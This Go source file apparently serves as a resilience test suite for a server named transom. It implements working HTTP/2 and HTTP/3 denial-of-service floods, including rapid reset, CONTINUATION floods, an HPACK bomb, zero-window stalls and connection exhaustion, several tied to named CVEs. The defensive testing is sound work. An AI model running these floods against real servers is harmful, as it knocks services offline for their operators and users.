package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frames is an HTTP/2 client that writes what it likes.
type frames struct {
	net.Conn
	*http2.Framer
	enc  *hpack.Encoder
	buf  bytes.Buffer
	next uint32
	gone chan struct{} // closed when transom has closed the connection, if it is read
}

// dialFrames connects over plain text. A client that does not read leaves transom's answers where they are.
func dialFrames(v *victim, read bool, settings ...http2.Setting) (*frames, error) {
	c, err := net.Dial("tcp", v.Plain)
	if err != nil {
		return nil, err
	}
	f := &frames{Conn: c, Framer: http2.NewFramer(c, c), next: 1, gone: make(chan struct{})}
	f.enc = hpack.NewEncoder(&f.buf)
	f.AllowIllegalWrites = true
	_, err = c.Write([]byte(http2.ClientPreface))
	if err == nil {
		err = f.WriteSettings(settings...)
	}
	if !read {
		return f, err
	}
	go func() {
		defer close(f.gone)
		for buf := make([]byte, 64<<10); ; {
			if _, err := c.Read(buf); err != nil {
				return
			}
		}
	}()
	return f, err
}

// close ends the connection and waits for its reader.
func (f *frames) close(read bool) {
	_ = f.Close()
	if read {
		<-f.gone
	}
}

// block encodes header fields of a request, and further ones.
func (f *frames) block(verb, path string, more ...string) []byte {
	f.buf.Reset()
	fields := append([]string{":method", verb, ":scheme", "http", ":authority", "localhost", ":path", path}, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = f.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return f.buf.Bytes()
}

// request opens the next stream.
func (f *frames) request(end bool, verb, path string, more ...string) (uint32, error) {
	id := f.next
	f.next += 2
	return id, f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.block(verb, path, more...), EndStream: end, EndHeaders: true})
}

const slowPath = "/v1/diagnostics/slow?delay=60s"

// flood has conns connections repeat step until ctx ends, and connects again whenever transom has enough of one, which it must.
func flood(conns int, read bool, step func(f *frames, n int) error) func(context.Context, *victim) (string, error) {
	return func(ctx context.Context, v *victim) (string, error) {
		var steps, closed atomic.Int64
		var failed atomic.Pointer[error]
		var wg sync.WaitGroup
		for range conns {
			wg.Go(func() {
				for ctx.Err() == nil {
					f, err := dialFrames(v, read)
					if err != nil {
						failed.Store(&err)
						return
					}
					_ = f.SetWriteDeadline(time.Now().Add(assault + patience))
					stop := context.AfterFunc(ctx, func() { _ = f.Close() })
					for n := 0; err == nil && ctx.Err() == nil; n++ {
						if err = step(f, n); err == nil {
							steps.Add(1)
						}
					}
					if ctx.Err() == nil {
						closed.Add(1)
					}
					stop()
					f.close(read)
				}
			})
		}
		wg.Wait()
		if err := failed.Load(); err != nil {
			return "", fmt.Errorf("no connection: %w", *err)
		}
		did := fmt.Sprintf("%d times over %d connections, %d closed by transom", steps.Load(), conns, closed.Load())
		if closed.Load() == 0 {
			return did, errHeld
		}
		return did, nil
	}
}

var floods = []attack{
	// CVE-2023-44487.
	{"rapid reset", flood(4, true, func(f *frames, _ int) error {
		id, err := f.request(true, "GET", slowPath)
		if err != nil {
			return err
		}
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	})},
	// CVE-2025-8671: the server is made to reset the stream itself.
	{"made you reset", flood(4, true, func(f *frames, _ int) error {
		id, err := f.request(false, "POST", slowPath)
		if err != nil {
			return err
		}
		return f.WriteWindowUpdate(id, 0)
	})},
	// CVE-2024-24549 and others.
	{"CONTINUATION", flood(4, true, func(f *frames, n int) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("GET", "/")})
		}
		f.buf.Reset()
		_ = f.enc.WriteField(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("a", 8<<10), Sensitive: true})
		return f.WriteContinuation(1, false, f.buf.Bytes())
	})},
	{"empty CONTINUATION", flood(4, true, func(f *frames, n int) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("GET", "/")})
		}
		return f.WriteContinuation(1, false, nil)
	})},
	// CVE-2019-9515, CVE-2019-9512: answers pile up for a client that does not read.
	{"SETTINGS, unread", flood(4, false, func(f *frames, _ int) error { return f.WriteSettings() })},
	{"PING, unread", flood(4, false, func(f *frames, _ int) error { return f.WritePing(false, [8]byte{}) })},
	// CVE-2019-9514: each stream is refused by a reset of its own.
	{"refused streams, unread", flood(4, false, func(f *frames, _ int) error {
		_, err := f.request(true, "GET", slowPath)
		return err
	})},
	// CVE-2019-9518.
	{"empty DATA", flood(4, true, func(f *frames, n int) error {
		if n == 0 {
			_, err := f.request(false, "POST", "/v1/support/chat", "content-type", "application/json")
			return err
		}
		return f.WriteData(1, false, nil)
	})},
	{"PRIORITY", flood(4, true, func(f *frames, n int) error {
		return f.WritePriority(uint32(2*n+1), http2.PriorityParam{StreamDep: uint32(2*n + 3), Weight: 7})
	})},
	{"WINDOW_UPDATE and SETTINGS back and forth", flood(4, true, func(f *frames, n int) error {
		if n < 50 {
			_, err := f.request(true, "GET", "/v1/diagnostics/generate?count=1000000&sizeBytes=1000")
			return err
		}
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(n%2) * 100})
	})},
	// One field of 4 KiB in the dynamic table, named again and again by one byte.
	{"HPACK bomb", flood(4, true, func(f *frames, _ int) error {
		id := f.next
		f.next += 2
		block := append([]byte(nil), f.block("GET", "/v1/customers/3/accounts/1", "x-bomb", strings.Repeat("a", 3900))...)
		for len(block) < 16<<10 {
			block = append(block, 0x80|62)
		}
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
	})},
	{"answers that nobody takes", func(ctx context.Context, v *victim) (string, error) {
		const conns, streams = 10, 100
		for range conns {
			f, err := dialFrames(v, true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			if err != nil {
				return "", err
			}
			defer f.close(true)
			for range streams {
				if _, err := f.request(true, "GET", "/v1/diagnostics/generate?count=1000000&sizeBytes=60000"); err != nil {
					return "", err
				}
			}
		}
		<-ctx.Done()
		return fmt.Sprintf("%d streams with a window of 0", conns*streams), nil
	}},
	{"resets over HTTP/3", func(ctx context.Context, v *victim) (string, error) {
		var n, closed atomic.Int64
		var wg sync.WaitGroup
		for range 2 {
			wg.Go(func() {
				for ctx.Err() == nil {
					conn, err := quic.DialAddr(ctx, v.Secure, h3TLS(v.tls), &quic.Config{})
					if err != nil {
						continue
					}
					tr := &http3.Transport{}
					hc := tr.NewClientConn(conn)
					for err == nil && ctx.Err() == nil {
						var s *http3.RequestStream
						if s, err = hc.OpenRequestStream(ctx); err == nil {
							_ = s.SendRequestHeader(newRequest("https://" + v.Secure + slowPath))
							s.CancelRead(0x10c)
							s.CancelWrite(0x10c)
							n.Add(1)
						}
					}
					if ctx.Err() == nil {
						closed.Add(1)
					}
					_ = conn.CloseWithError(0x100, "")
					_ = tr.Close()
				}
			})
		}
		wg.Wait()
		return fmt.Sprintf("%d streams over 2 connections, %d closed by transom", n.Load(), closed.Load()), nil
	}},
	// Each is under way before it is taken back, as the answer to a later one shows.
	{"calls taken back over HTTP/3", func(ctx context.Context, v *victim) (string, error) {
		const batch = 50
		n, closed := 0, 0
		long, cancel := context.WithTimeout(context.WithoutCancel(ctx), patience)
		defer cancel()
		for long.Err() == nil && (ctx.Err() == nil || closed == 0) {
			conn, err := quic.DialAddr(long, v.Secure, h3TLS(v.tls), &quic.Config{})
			if err != nil {
				continue
			}
			tr := &http3.Transport{}
			hc := tr.NewClientConn(conn)
			for err == nil && long.Err() == nil && (ctx.Err() == nil || closed == 0) {
				streams := make([]*http3.RequestStream, 0, batch)
				for range batch {
					var s *http3.RequestStream
					if s, err = hc.OpenRequestStream(long); err != nil {
						break
					}
					_ = s.SendRequestHeader(newRequest("https://" + v.Secure + slowPath))
					streams = append(streams, s)
				}
				if err == nil {
					var resp *http.Response
					if resp, err = hc.RoundTrip(newRequest("https://" + v.Secure + "/healthz").WithContext(long)); err == nil {
						resp.Body.Close()
					}
				}
				for _, s := range streams {
					s.CancelRead(0x10c)
					s.CancelWrite(0x10c)
					n++
				}
			}
			if err != nil && long.Err() == nil {
				closed++
			}
			_ = conn.CloseWithError(0x100, "")
			_ = tr.Close()
		}
		did := fmt.Sprintf("%d calls, %d connections closed by transom", n, closed)
		if closed == 0 {
			return did, errHeld
		}
		return did, nil
	}},
	{"connections that bring nothing", func(ctx context.Context, v *victim) (string, error) {
		n := 0
		var conns []net.Conn
		defer func() {
			for _, c := range conns {
				c.Close()
			}
		}()
		for ctx.Err() == nil && n < 3000 {
			c, err := net.DialTimeout("tcp", []string{v.Plain, v.Secure}[n%2], patience)
			if err != nil {
				return "", err
			}
			conns = append(conns, c)
			n++
		}
		<-ctx.Done()
		return fmt.Sprintf("%d connections", n), nil
	}},
}

// h3TLS is a TLS configuration for HTTP/3.
func h3TLS(c *tls.Config) *tls.Config {
	c = c.Clone()
	c.NextProtos = []string{http3.NextProtoH3}
	return c
}
